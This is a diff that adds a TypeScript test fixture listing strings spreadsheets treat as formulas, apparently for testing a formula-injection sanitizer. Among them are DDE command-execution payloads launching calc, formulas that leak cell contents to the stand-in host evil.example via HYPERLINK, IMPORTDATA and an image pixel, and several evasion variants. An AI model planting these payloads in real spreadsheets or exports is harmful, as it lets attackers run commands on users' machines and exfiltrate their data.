@@ -1,0 +1,48 @@
+/** Texts that a spreadsheet takes for formulas: what OWASP warns of, and what Google Sheets in particular would do. */
+export const hostileTexts: readonly string[] = [
+  ...[
+    '=1+1',
+    '=cmd|"/C calc"!A0',
+    '=HYPERLINK("https://evil.example/?x="&A1;"click me")',
+    '=IMPORTXML("https://evil.example";"//a")',
+  ],
+  ...[
+    '=IMPORTDATA("https://evil.example/"&A2)',
+    '=IMAGE("https://evil.example/pixel.gif")',
+    '=IMPORTRANGE("1abc";"A1:Z")',
+  ],
+  ...['=IMPORTHTML("https://evil.example";"table";1)', '=IMPORTFEED("https://evil.example")', '=QUERY(A:Z;"select *")'],
+  ...[
+    '=ARRAYFORMULA(A1:A9)',
+    '={1;2;3}',
+    '=GOOGLETRANSLATE(A1)',
+    '=KOBO("Answers")',
+    '=LAMBDA(x;x)(1)',
+    '==1+1',
+    '= 1+1',
+  ],
+  ...[
+    '+1+1',
+    '+cmd|"/C calc"!A0',
+    '+33612345678',
+    '-1+1',
+    '-2+3+cmd|"/C calc"!A0',
+    '-A1',
+    '@SUM(1+1)',
+    '@A1',
+    '+',
+    '-',
+    '@',
+  ],
+  ...['\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\u00a0=1+1', '\ufeff=1+1', '\u200b=1+1', '\u202e=1+1', '\u0000=1+1'],
+  ...['＝1+1', '＋1', '－1', '＠SUM(1)', "'=1+1", "''=1+1", '"=1+1"', '"";=1+1', ';=1+1', '=1+1;"', '|=1+1', '%0A=1+1'],
+  ...[
+    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+    '=1+1\n=2+2',
+    'TRUE',
+    '#REF!',
+    '1/2',
+    '007',
+    '=REGEXREPLACE(A1;".*";"x")',
+  ],
+];
